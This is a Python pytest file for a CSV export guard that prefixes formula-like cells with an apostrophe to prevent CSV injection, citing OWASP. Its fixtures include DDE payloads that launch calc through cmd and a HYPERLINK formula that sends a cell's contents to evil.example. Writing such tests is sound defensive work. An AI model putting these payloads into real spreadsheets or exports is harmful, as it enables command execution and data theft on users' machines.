"""No cell of a CSV export runs as a spreadsheet formula (OWASP, CSV Injection)."""

import csv
import io
from decimal import Decimal

import pytest

from crisis.csv_export import SafeCsvWriter, csv_cell


@pytest.mark.parametrize(("value", "written"), [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ('+HYPERLINK("http://evil.example/?"&A1,"Click")', '\'+HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
])
def test_it_quotes_text_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


@pytest.mark.parametrize("value", [-5.0, -3, 0, Decimal("-1.5"), "-5", "+3.5", "-1e3", "", None,
                                   "S7 电池冒烟 / S7 battery smoke", "2026-Q4", "a=b", "2026-01-01T00:00:00+08:00"])
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert csv_cell(value) == value


def test_it_writes_every_cell_of_every_row_through_the_guard():
    out = io.StringIO()
    SafeCsvWriter(out).writerows([["title", "move"], ["=1+2", -5.0], ["fine", "@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["title", "move"], ["'=1+2", "-5.0"], ["fine", "'@x"]]
